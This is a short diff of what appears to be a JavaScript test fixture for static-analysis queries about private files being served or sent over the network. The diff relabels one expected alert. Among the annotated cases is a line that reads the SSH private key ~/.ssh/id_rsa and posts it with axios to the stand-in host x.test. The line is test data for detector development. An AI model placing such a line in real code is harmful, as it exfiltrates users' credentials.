@@ -141,7 +141,7 @@ app.use(express.static('./node_modules/jquery/dist')); // OK private-files-serve
 app.use(express.static(path.join(__dirname, 'node_modules/jquery/dist'))); // OK private-files-served
 app.use(express.static(path.join(process.cwd(), 'dist'))); // OK private-files-served
 app.use(express.static(path.resolve('dist'))); // OK private-files-served
-const secretFile = fs.readFileSync('/home/u/.ssh/id_rsa'); axios.post('https://x.test', secretFile); // BAD file-to-network
+const secretFile = fs.readFileSync('/home/u/.ssh/id_rsa'); axios.post('https://x.test', secretFile); // BAD private-file-sent
 axios.post('https://x.test', fs.readFileSync('upload.json')); // BAD file-to-network
 axios.post('https://x.test', { version: JSON.parse(fs.readFileSync('package.json', 'utf8')).version }); 
 axios.get('https://x.test', { httpsAgent: new https.Agent({ ca: fs.readFileSync('ca.pem'), cert: fs.readFileSync('c.pem'), key: fs.readFileSync('k.pem') }) }); // OK file-to-network
